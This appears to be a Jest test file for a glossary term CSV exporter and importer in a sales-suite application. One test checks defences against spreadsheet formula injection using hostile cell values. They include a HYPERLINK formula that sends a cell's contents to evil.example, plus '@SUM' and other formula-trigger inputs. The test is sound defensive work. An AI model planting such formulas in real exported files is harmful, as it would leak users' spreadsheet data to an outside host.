import { DomainError, TermView } from '@sales-suite/contracts';
import { parse } from 'csv-parse/sync';
import {
  csvHeader,
  csvRecordToRow,
  parseTermsCsv,
  termsToCsvRecords,
  termToCsvRecord,
} from './term-csv';

const term: TermView = {
  slug: 'sales-kickoff',
  name: 'Sales Kickoff',
  definition: 'A yearly event, "kick-off", with training.',
  details: null,
  aliases: ['SKO', 'Kickoff'],
  hiddenLabels: [],
  category: 'Sales enablement',
  tags: ['events'],
  relations: [
    { type: 'broader', slug: 'sales-events' },
    { type: 'see-also', slug: 'sales-territory' },
  ],
  sources: [{ url: 'https://example.com/sko', title: 'SKO, explained' }],
  status: 'deprecated',
  replacedBy: 'revenue-kickoff',
  version: 3,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-02T00:00:00.000Z',
};

describe('term CSV', () => {
  it('writes one record per term with lists joined by |', () => {
    expect(termToCsvRecord(term)).toEqual({
      slug: 'sales-kickoff',
      name: 'Sales Kickoff',
      definition: 'A yearly event, "kick-off", with training.',
      details: '',
      aliases: 'SKO|Kickoff',
      hiddenLabels: '',
      category: 'Sales enablement',
      tags: 'events',
      relations: 'broader:sales-events|see-also:sales-territory',
      sources: '[{"url":"https://example.com/sko","title":"SKO, explained"}]',
      status: 'deprecated',
      replacedBy: 'revenue-kickoff',
    });
  });

  it('reads back what it wrote (round trip), without the server-kept fields', () => {
    const [row] = parseTermsCsv(csvHeader() + termsToCsvRecords([term]));
    expect(row).toEqual({
      slug: term.slug,
      name: term.name,
      definition: term.definition,
      aliases: term.aliases,
      hiddenLabels: [],
      category: term.category,
      tags: term.tags,
      relations: term.relations,
      sources: term.sources,
      status: term.status,
      replacedBy: term.replacedBy,
    });
  });

  it('writes no cell a spreadsheet would run as a formula, and reads the text back exactly', () => {
    const hostile: TermView = {
      ...term,
      name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      definition: '+1',
      details: "'-2",
      aliases: ['-2', 'SKO'],
      category: '@SUM(A1:A9)',
      tags: ['\tcmd'],
    };
    const csv = csvHeader() + termsToCsvRecords([hostile]);
    const cells = parse(csv, { columns: true }) as Record<string, string>[];
    expect(Object.values(cells[0]).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const [row] = parseTermsCsv(csv);
    expect(row).toMatchObject({
      name: hostile.name,
      definition: hostile.definition,
      details: hostile.details,
      aliases: hostile.aliases,
      category: hostile.category,
    });
  });

  it.each([
    [
      'empty cells are absent fields',
      { slug: 'a', name: 'A', definition: 'd', details: '', category: '' },
      { slug: 'a', name: 'A', definition: 'd' },
    ],
    [
      'list items are trimmed, blanks dropped',
      { aliases: ' SKO | | Kickoff ' },
      { aliases: ['SKO', 'Kickoff'] },
    ],
    [
      'a relation without a type is kept for validation to refuse',
      { relations: 'closed-lost' },
      { relations: [{ type: 'closed-lost', slug: '' }] },
    ],
    [
      'sources that are not JSON are kept for validation to refuse',
      { sources: 'http://x' },
      { sources: 'http://x' },
    ],
  ])('%s', (_, record, expected) => {
    expect(csvRecordToRow(record)).toEqual(expected);
  });

  it('accepts a header with only the required columns', () => {
    expect(parseTermsCsv('slug,name,definition\nopen-rate,Open Rate,Opens / sends\n')).toEqual([
      { slug: 'open-rate', name: 'Open Rate', definition: 'Opens / sends' },
    ]);
  });

  it.each([
    ['an unclosed quote', 'slug,name,definition\na,"A,d\n', 'csv'],
    ['a short record', 'slug,name,definition\na,A\n', 'csv'],
    ['an unknown column', 'slug,name,definition,colour\na,A,d,red\n', 'csv.colour'],
    ['a missing required column', 'slug,name\na,A\n', 'csv.definition'],
  ])('refuses %s, naming where', (_, csv, field) => {
    let error: unknown;
    try {
      parseTermsCsv(csv);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).details?.violations?.map((v) => v.field)).toEqual([field]);
  });
});
